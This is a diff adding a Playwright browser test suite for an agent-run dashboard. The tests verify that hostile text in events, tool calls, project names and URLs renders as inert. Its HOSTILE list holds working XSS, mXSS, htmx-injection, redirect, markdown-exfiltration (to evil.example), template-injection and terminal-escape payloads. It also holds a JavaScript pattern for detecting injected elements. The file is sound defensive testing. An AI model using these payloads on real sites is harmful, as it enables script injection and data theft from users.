@@ -1,0 +1,162 @@
+"""Text that others wrote is text: in every place where a run's page shows it, at first, live, and when it is opened."""
+
+from __future__ import annotations
+
+import pytest
+from django.db import transaction
+from playwright.sync_api import Page, expect
+
+from agentops.projects.models import Role
+from runs.models import AgentRun
+from tests.browser.acting import driven, make_scripted
+from tests.browser.conftest import Tabs
+from tests.browser.pages import assert_each_once, live, open_run, status
+from tests.crash.scripted import PLAYS
+from tests.live.logs import last_seq
+from tests.make import make_agent, make_run
+from tests.web.people import make_person
+from tests.web.serving import WebThread
+from timeline import log
+from timeline.log import Entry
+from timeline.models import Source
+
+pytestmark = [pytest.mark.browser]
+
+#: Rows 90 to 94 of the bad inputs.
+HOSTILE = [
+    "<script>alert('script')</script>",
+    "<img src=x onerror=alert('img')>",
+    "<svg onload=alert('svg')><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<a href=\"javascript:alert('href')\">click</a>",
+    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
+    "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
+    '<base href="http://evil.example/">',
+    '<form action="http://evil.example/"><button>Log in</button></form>',
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert('mxss')>\">",
+    "</li></ol></main></body><h1 id=broken>out</h1>",
+    "</textarea></pre></bdi></template><h1 id=broken>out</h1>",
+    '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div>',
+    "<div hx-on:click=\"alert('on')\" hx-on--load=\"alert('load')\" _=\"on load call alert('hyper')\">x</div>",
+    '<div data-hx-get="/login" data-hx-trigger="load" data-hx-swap-oob="true" id="head">x</div>',
+    '<li id="e1" hx-swap-oob="outerHTML:#timeline">gone</li>',
+    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
+    "<link rel=stylesheet href=//evil.example/x.css><object data=//evil.example></object>",
+    "![x](http://evil.example/?q=secret) [a](javascript:alert('markdown'))",
+    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
+    "\u202egnp.exe\u2066 \u200bzero\u200dwidth\ufeff",
+    "data: x\n\nevent: end\ndata: y\n\nid: 99999\n\n",
+    "data: x\r\revent: end\rdata: y\r\r",
+    "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil.example\x07link \x9b31m \b\b\b",
+    "\u2028\u2029 lines ]]> <![CDATA[ <!-- comment",
+    "Z" + "\u0301" * 500 + " " + "W" * 5000,
+]
+WHOLE = "\n".join(HOSTILE)
+#: What only such a text could have brought into `main`: elements, handlers, and addresses that are not ours.
+FOREIGN = r"""() => {
+  const tags = /^(script|img|iframe|style|base|math|object|link|meta|animate|mglyph|mtext)$/i;
+  const acts = /^(on|hx-on|data-hx-|_$|srcdoc)/i;
+  const ours = /^([/?#]|$)/;
+  const strange = (node) => node.id === "broken" || tags.test(node.tagName) ||
+    [...node.attributes].some(({ name, value }) => acts.test(name) ||
+      (/^(href|src|action|formaction|hx-get|hx-post)$/.test(name) && (!ours.test(value) || value.startsWith("//"))) ||
+      (name === "hx-get" && !/^\/(runs|p)\//.test(value)));
+  return [...document.querySelectorAll("main *, body > #broken")].filter(strange).map((node) => node.outerHTML);
+}"""
+
+
+def say_everywhere(run: AgentRun) -> None:
+    """Events of every family, each with all of it."""
+    entries = [Entry({"name": text, "value": text}, type="x.hostile") for text in HOSTILE]
+    entries += [
+        Entry({"message": WHOLE, "error_type": "boom"}, type="error"),
+        Entry({"role": "user", "content": WHOLE[:2000]}, type="message.added"),
+        Entry({"text": WHOLE[:2000]}, type="llm.text"),
+    ]
+    for place, text in enumerate(HOSTILE[:16]):
+        # An external runner chooses the ids of its calls, by which cards are found again.
+        call = {"call_id": text[:60] or str(place), "tool_name": text[:100]}
+        entries += [
+            Entry(call | {"arguments": {text: text}}, type="tool.start", step=1),
+            Entry({"call_id": call["call_id"], "text": text}, type="tool.output", step=1),
+            Entry(call | {"output": text, "error": text}, type="tool.end", step=1),
+        ]
+    with transaction.atomic():
+        log.append(run.pk, [*entries, Entry(type="x.last")], source=Source.INGEST)
+
+
+def assert_inert(page: Page) -> None:
+    page.wait_for_timeout(300)
+    assert page.evaluate(FOREIGN) == []
+    # The page's own frame still stands.
+    assert page.locator("#head").count() == page.locator("#timeline").count() == 1
+    assert page.locator("#e1").count() <= 1
+
+
+def test_hostile_events_are_text_live_and_at_first(tabs: Tabs, web: WebThread) -> None:
+    run = make_run()
+    page = tabs.open(web.url, make_person(run.project, Role.OPERATOR))
+    open_run(page, run)
+    live(page)
+    say_everywhere(run)
+    expect(page.locator(f"#e{last_seq(run)}")).to_be_attached()
+    assert_inert(page)
+    assert_each_once(page)
+    # Not dropped, but shown.
+    for text in HOSTILE[:6]:
+        expect(page.locator("#timeline")).to_contain_text(text[:40])
+    page.reload()
+    assert_inert(page)
+    page.keyboard.press("e")
+    assert_inert(page)
+
+
+def test_a_hostile_model_and_tools_are_text(tabs: Tabs, web: WebThread) -> None:
+    run = make_scripted(calls=[["ledger_read"]], play="hostile", tool_sleep_s=0.2)
+    PLAYS["hostile"] = lambda call: [WHOLE * 2, 0.3, "\n", WHOLE]
+    try:
+        page = tabs.open(web.url, make_person(run.project, Role.OPERATOR))
+        open_run(page, run)
+        live(page)
+        with driven(run):
+            expect(page.locator(".card-assistant .text")).to_contain_text("<script>")
+            assert_inert(page)
+        status(page, "completed")
+    finally:
+        del PLAYS["hostile"]
+
+    assert_inert(page)
+    page.reload()
+    assert_inert(page)
+    more = page.get_by_role("link", name="Show all")
+    if more.count():
+        more.first.click()
+        expect(page.locator(".card-assistant")).to_contain_text("lines ]]> <![CDATA[")
+        assert_inert(page)
+
+
+@pytest.mark.parametrize("javascript", [True, False], ids=["with scripts", "without"])
+def test_hostile_names_and_prompts_are_text(tabs: Tabs, web: WebThread, javascript: bool) -> None:
+    agent = make_agent()
+    agent.project.name = HOSTILE[0] + HOSTILE[1]
+    agent.project.save()
+    run = make_run(agent, WHOLE, title=HOSTILE[2] + HOSTILE[9], labels=["<b>label</b>"])
+    page = tabs.open(web.url, make_person(agent.project, Role.OPERATOR), javascript=javascript)
+    open_run(page, run)
+    assert_inert(page)
+    page.goto(f"/p/{agent.project.slug}/runs")
+
+    assert page.evaluate(FOREIGN) == []
+    expect(page.locator("tr.run td.title")).to_contain_text("<svg onload=alert('svg')>")
+    page.goto(f"/p/{agent.project.slug}/runs?q=%3Cscript%3Ealert(1)%3C/script%3E%22%20autofocus%20onfocus=alert(1)")
+    assert page.evaluate(FOREIGN) == []
+
+
+@pytest.mark.parametrize(
+    "path", ["/runs/%3Cscript%3Ealert(1)%3C/script%3E", "/p/x/runs?status=%22%3E%3Cimg%20src=x%3E"]
+)
+def test_errors_repeat_nothing_that_acts(tabs: Tabs, web: WebThread, path: str) -> None:
+    tabs.expect("404|400")
+    page = tabs.open(web.url, make_person(make_agent().project))
+    page.goto(path)
+
+    assert page.evaluate(FOREIGN) == []
